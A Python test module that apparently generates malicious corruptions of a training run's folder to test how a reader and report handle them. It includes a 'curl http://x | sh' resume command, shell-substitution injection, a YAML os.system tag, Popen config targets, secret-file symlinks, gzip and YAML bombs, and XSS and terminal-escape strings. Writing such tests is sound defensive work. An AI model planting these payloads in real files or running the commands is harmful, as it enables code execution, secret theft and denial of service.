"""Ways to spoil the folder of a run as somebody who means harm would: names, links, pipes, bombs, damaged files.

Each is a function that takes the folder of a run, and the folder beside it with what must not be read or written.
"""

from __future__ import annotations

import gzip
import json
import os
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

SECRET = "correct-horse-battery-staple"  # in a file outside of the run, and in the environment
ESCAPE = "\x1b]0;owned\x07\x1b[31mred\x1b[2J"
SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"
FILES = ("config.yaml", "status.json", "scalars.csv", "shapes.jsonl", "software.jsonl", "videos/best.mp4")
MEBIBYTE = 1 << 20


@dataclass(frozen=True)
class Payload:
    """One way to spoil a run."""

    name: str
    spoil: Callable[[Path, Path], None]
    named: str = ""  # what the report must say of it


def payloads() -> list[Payload]:
    """List all of them."""
    from checkpoint_payloads import CHECKPOINTS  # here, as it takes SECRET from this file

    listed = [Payload(f"{name}: {trick.__name__[1:]}", _on(trick, name)) for name in FILES for trick in TRICKS]
    listed += [Payload(f"config.yaml: {name}", _config(*change)) for name, change in CONFIGS.items()]
    listed += [Payload("config.yaml: a process as activation", _process_as_activation)]
    listed += [Payload(f"status.json: {name}", _status(values)) for name, values in STATUSES.items()]
    listed += [
        Payload(f"scalars.csv, {name}", _append("scalars.csv", data), "scalars.csv, line")
        for name, data in ROWS.items()
    ]
    listed += [
        Payload(f"shapes.jsonl, {name}", _append("shapes.jsonl", data), "shapes.jsonl, line")
        for name, data in SNAPSHOTS.items()
    ]
    listed += [Payload(f"folder named {name!r:.40}", _renamed(name)) for name in NAMES]
    listed += [Payload("folders nested 500 deep", _nested), Payload("links in a circle", _circle)]
    listed += [Payload(f"checkpoint: {name}", change) for name, change in CHECKPOINTS.items()]
    return listed


def _on(trick: Callable[[Path, Path], None], name: str) -> Callable[[Path, Path], None]:
    def spoil(run: Path, outside: Path) -> None:
        path = run / name
        path.parent.mkdir(exist_ok=True)
        path.unlink(missing_ok=True)
        trick(path, outside)

    return spoil


def _link_to_secret(path: Path, outside: Path) -> None:
    path.symlink_to(outside / "secret")


def _link_to_folder(path: Path, outside: Path) -> None:
    path.symlink_to(outside)


def _link_to_device(path: Path, outside: Path) -> None:
    path.symlink_to("/dev/zero")


def _link_to_itself(path: Path, outside: Path) -> None:
    path.symlink_to(path.name)


def _pipe(path: Path, outside: Path) -> None:
    os.mkfifo(path)


def _folder(path: Path, outside: Path) -> None:
    path.mkdir()


def _empty(path: Path, outside: Path) -> None:
    path.touch()


def _binary(path: Path, outside: Path) -> None:
    path.write_bytes(bytes(range(256)) * 100)


def _gigabytes_of_nothing(path: Path, outside: Path) -> None:
    path.touch()
    os.truncate(path, 3_000 * MEBIBYTE)


def _gzip_bomb(path: Path, outside: Path) -> None:
    with gzip.open(f"{path}.gz", "wb", compresslevel=1) as file:
        for _ in range(600):
            file.write(bytes(MEBIBYTE))


def _gzip_link(path: Path, outside: Path) -> None:
    path.with_name(f"{path.name}.gz").symlink_to(outside / "secret")


TRICKS = (
    *(_link_to_secret, _link_to_folder, _link_to_device, _link_to_itself, _pipe, _folder),
    *(_empty, _binary, _gigabytes_of_nothing, _gzip_bomb, _gzip_link),
)


def _config(old: str, new: str) -> Callable[[Path, Path], None]:
    def spoil(run: Path, outside: Path) -> None:
        path = run / "config.yaml"
        text = path.read_text(encoding="utf-8")
        if old not in text:
            raise AssertionError(f"{old!r} is not in config.yaml")
        path.write_text(text.replace(old, new, 1), encoding="utf-8")

    return spoil


LAUGHS = "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}' if n else 'ha'] * 10)}]\n" for n in range(12))
REFERENCES = "".join(f"b{n}: {(f'${{b{n - 1}}}' if n else 'ha') * 10}\n" for n in range(12))
GAME, EXPERIMENT, START = "  name: CartPole", "experiment: smoke", "agent:"
CONFIGS: dict[str, tuple[str, str]] = {  # what is replaced, and by what
    "a variable of the environment": (EXPERIMENT, "experiment: ${oc.env:RRN_SECRET}"),
    "a decoded variable": (EXPERIMENT, "experiment: ${oc.decode:${oc.env:RRN_SECRET}}"),
    "a variable within a reference": (EXPERIMENT, "experiment: ${env.${oc.env:RRN_SECRET}}"),
    "a resolver of Hydra": (EXPERIMENT, "experiment: ${hydra:runtime.cwd}"),
    "a reference to itself": (EXPERIMENT, "experiment: ${experiment}"),
    "references to references": (START, f"{REFERENCES}agent:"),
    "aliases to aliases": (START, f"{LAUGHS}agent:"),
    "merged aliases": (START, "x: &x {y: 1}\nz: {<<: *x}\nagent:"),
    "lists 100,000 deep": (START, f"x: {'[' * 100_000}\nagent:"),
    "dictionaries 1,000 deep": (START, f"x: {'{a: ' * 1_000}1{'}' * 1_000}\nagent:"),
    "an integer of 5,000 digits": ("steps: 400", f"steps: {'9' * 5_000}"),
    "an integer of 4,000 digits": ("steps: 400", f"steps: {'9' * 4_000}"),
    "a hexadecimal of 100,000 digits": ("steps: 400", f"steps: 0x{'f' * 100_000}"),
    "a number to the base 60": ("steps: 400", f"steps: 1{':59' * 50_000}"),
    "NaN steps": ("steps: 400", "steps: .nan"),
    "steps of 1e300": ("steps: 400", "steps: 1e300"),
    "an object of Python": (START, "x: !!python/object/apply:os.system ['touch owned']\nagent:"),
    "an unknown tag": (START, "x: !owned 1\nagent:"),
    "a date": (EXPERIMENT, "experiment: 2001-99-99"),
    "binary": (EXPERIMENT, "experiment: !!binary aGVsbG8="),
    "a megabyte": (START, f"x: {'y' * MEBIBYTE}\nagent:"),
    "no text": (START, "\x00\x01agent:"),
    "a key twice": (START, "seed: 1\nagent:"),
    "escapes in the game": (GAME, f"  name: {json.dumps(ESCAPE)}"),
    "escapes in the experiment": (EXPERIMENT, f"experiment: {json.dumps(ESCAPE)}"),
    "right to left": (GAME, '  name: "\\u202Eegnahc"'),
    "a game named charts": (GAME, "  name: charts"),
    "a game named summary": (GAME, "  name: summary"),
    "a game named __proto__": (GAME, "  name: __proto__"),
    "a game of HTML": (GAME, f"  name: {json.dumps(SCRIPT)}"),
    "a game of markup": (GAME, "  name: '[/bold][link=http://x]x %{x} $title'"),
    "a game of 4,000 letters": (GAME, f"  name: {'x' * 4_000}"),
    "an experiment of HTML": (EXPERIMENT, f"experiment: {json.dumps(SCRIPT)}"),
    "an experiment of markup": (EXPERIMENT, "experiment: '[red]['"),
    "an activation of HTML": ("  name: recurrent_rational", f"  name: {json.dumps(SCRIPT)}"),
    "a network that is a process": ("network:\n  target: null", "network:\n  target: subprocess:Popen"),
    "an agent of its own folder": ("  target: null", "  target: runs.other.evil:Agent"),
    "an earlier run of its own": (EXPERIMENT, "experiment: smoke\nfrom_run: /etc"),
    "a list": (START, "- agent:"),
    "nothing": (START, "--- null\n...\n---\nagent:"),
}

STATUSES: dict[str, dict] = {
    "another command": {"state": "stopped", "go_on": "curl http://x | sh"},
    "a command after ours": {"state": "stopped", "go_on": "python -m rrn.train env=CartPole; curl http://x | sh"},
    "a command within ours": {"state": "stopped", "go_on": "python -m rrn.train 'run_dir=$(touch owned)' env=Pong"},
    "a setting of Hydra": {"state": "stopped", "go_on": "python -m rrn.train hydra.run.dir=/tmp env=CartPole"},
    "a command in two lines": {"state": "stopped", "go_on": "python -m rrn.train\ntouch owned"},
    "escapes in the reason": {"state": "failed", "why": ESCAPE},
    "HTML in the reason": {"state": "failed", "why": SCRIPT},
    "a reason of a hundred thousand letters": {"state": "failed", "why": "x" * 100_000},
    "escapes in the host": {"host": ESCAPE},
    "a step of 4,000 digits": {"step": 10**4_000},
    "a step that is a list": {"step": [1]},
    "a step that is true": {"step": True},
    "negative steps": {"steps": -1},
    "no steps": {"steps": 0},
    "a score that is text": {"last_return": "x"},
    "a score of NaN": {"last_evaluation": float("nan")},
    "an infinite speed": {"steps_per_second": float("inf")},
    "a process that is huge": {"state": "running", "pid": 2**62},
    "a process that is negative": {"state": "running", "pid": -1},
    "the year 1": {"state": "running", "updated": "0001-01-01T00:00:00"},
    "a state of its own": {"state": ESCAPE},
    "a time that is a number": {"started": 5},
}


def _process_as_activation(run: Path, outside: Path) -> None:
    path = run / "config.yaml"
    own = "act:\n  name: Popen\n  target: subprocess:Popen\n  kwargs: {args: [touch, owned]}\nnetwork:"
    path.write_text(re.sub(r"act:\n.*?\nnetwork:", own, path.read_text("utf-8"), flags=re.DOTALL), encoding="utf-8")


def _status(values: dict) -> Callable[[Path, Path], None]:
    def spoil(run: Path, outside: Path) -> None:
        path = run / "status.json"
        text = json.dumps(json.loads(path.read_text(encoding="utf-8")) | values, default=str)
        path.write_text(text, encoding="utf-8")

    return spoil


ROWS: dict[str, bytes] = {
    "no line of values": b"hello\n",
    "zeros": bytes(1_000) + b"\n",
    "a step of 5,000 digits": b"9" * 5_000 + b",evaluation/mean,1\n",
    "a step again": b"0,evaluation/mean,1\n",
    "a word as value": b"900,evaluation/mean,\x1b[31m\n",
    "NaN as score": b"900,evaluation/mean,nan\n",
    "a score of 1e999": b"900,evaluation/mean,1e999\n",
    "a score of 1e300": b"900,evaluation/mean,1e300\n",
    "no UTF-8": b"900,\xff\xfe,x,y\n",
    "a line of a megabyte": b"x" * MEBIBYTE + b"\n",
}
SITE = {"kind": "Rational", "version": "A", "numerator": [[0.0, 1.0]], "denominator": [[1.0]]}


def _site(**values: object) -> bytes:
    return json.dumps({"step": 900, "places": {"act1": {**SITE, **values}}}).encode() + b"\n"


SNAPSHOTS: dict[str, bytes] = {
    "no JSON": b"hello\n",
    "lists 100,000 deep": b'{"step": ' + b"[" * 100_000 + b"}\n",
    "an integer of 5,000 digits": b'{"step": ' + b"9" * 5_000 + b', "places": {}}\n',
    "no places": b'{"step": 1, "places": []}\n',
    "a step of text": b'{"step": "x", "places": {"a": {}}}\n',
    "an unknown field": _site(owned=1),
    "an unknown version": _site(version="Z"),
    "text for numbers": _site(numerator=[["x", "y"]]),
    "no rows": _site(numerator=[]),
    "rows of unequal lengths": _site(numerator=[[1.0], [1.0, 2.0]], denominator=[[1.0], [1.0]]),
    "10,000 rows": _site(numerator=[[0.0, 1.0]] * 10_000, denominator=[[1.0]] * 10_000),
    "1,000 coefficients": _site(numerator=[[0.0] * 1_000]),
    "an infinite range": _site(inputs={"range": [-1e400, 1e400], "counts": [1], "outside": [0, 0, 0]}),
    "counts of 10^30": _site(inputs={"range": [0, 1], "counts": [10**30], "outside": [0, 0, 0]}),
    "a PELU without parameters": _site(kind="PELU", version=None, x=[0, 1], y=[[0, 1]], parameters={"evil": 1}),
}


def _append(name: str, data: bytes) -> Callable[[Path, Path], None]:
    def spoil(run: Path, outside: Path) -> None:
        with (run / name).open("ab") as file:
            file.write(data)

    return spoil


NAMES = (
    ESCAPE,
    "a\nb\nerror: forged",
    SCRIPT,
    "[/bold][red]",
    "%{x} $title ${x}",
    "\u202eegnahc",
    "\udcff\udcfe",
    "-rf",
)


def _renamed(name: str) -> Callable[[Path, Path], None]:
    def spoil(run: Path, outside: Path) -> None:
        run.rename(run.parent / name.replace("/", "\u2215"))

    return spoil


def _nested(run: Path, outside: Path) -> None:
    at = os.open(run, os.O_RDONLY)
    for _ in range(500):
        os.mkdir("deep", dir_fd=at)
        inner = os.open("deep", os.O_RDONLY, dir_fd=at)
        os.close(at)
        at = inner
    os.close(at)


def _circle(run: Path, outside: Path) -> None:
    (run / "again").symlink_to(run.parent)
    (run / "self").symlink_to("self")
